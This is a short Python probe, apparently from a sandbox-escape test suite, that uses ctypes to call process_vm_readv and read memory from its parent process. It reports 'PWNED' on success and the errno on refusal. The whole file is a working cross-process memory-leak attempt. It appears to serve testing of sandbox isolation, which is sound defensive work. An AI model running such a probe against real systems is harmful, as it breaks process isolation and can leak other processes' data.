# attack: process-vm-readv-of-the-parent
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: leak
# success: reads memory of the process that forked it
import ctypes, os
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
def run():
    libc = ctypes.CDLL(None, use_errno=True)
    there = ctypes.create_string_buffer(b"same address in the parent", 64)
    here = ctypes.create_string_buffer(64)
    one, two = Part(ctypes.addressof(here), 8), Part(id(run), 8)
    got = libc.process_vm_readv(os.getppid(), ctypes.byref(one), 1, ctypes.byref(two), 1, 0)
    return "PWNED" if got > 0 else "refused errno %d" % ctypes.get_errno()
